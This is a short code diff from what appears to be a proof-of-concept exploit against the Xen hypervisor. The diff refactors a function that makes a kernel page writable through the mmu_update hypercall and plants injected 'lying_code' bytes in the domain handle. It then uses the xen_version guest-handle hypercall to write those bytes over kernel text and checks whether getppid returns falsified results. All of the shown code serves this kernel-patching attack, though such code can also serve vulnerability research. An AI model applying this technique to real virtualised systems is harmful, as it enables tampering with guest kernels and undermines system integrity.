@@ -42,9 +42,8 @@ static bool patch_by_own_mapping(uint64_t text)
  */
 static bool patch_by_kernel_mapping(uint64_t text)
 {
-    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle, .domain = 0 };
     mmu_update_t *update = buffer(PAGE_SIZE);
-    uint8_t original[PATCH_SIZE] = { 0 };
+    uint8_t original[PATCH_SIZE] = { 0 }, patch[PATCH_SIZE];
     const struct pte pte = find_pte(kernel_root(), text, 1);
     bool lied;
 
@@ -55,17 +54,15 @@ static bool patch_by_kernel_mapping(uint64_t text)
                               .val = pte.value | PTE_WRITABLE };
     hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
 
-    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
-    memcpy(set.u.setdomainhandle.handle, lying_code, sizeof(lying_code));
-    domctl(&set);
+    memcpy(patch, original, PATCH_SIZE);
+    memcpy(patch, lying_code, sizeof(lying_code));
+    set_handle(patch);
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
     lied = getppid_lies();
 
-    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
-    domctl(&set);
+    set_handle(original);
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
-    memset(set.u.setdomainhandle.handle, 0, PATCH_SIZE);
-    domctl(&set);
+    set_handle((char[PATCH_SIZE]){ 0 });
 
     update->val = pte.value;
     hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
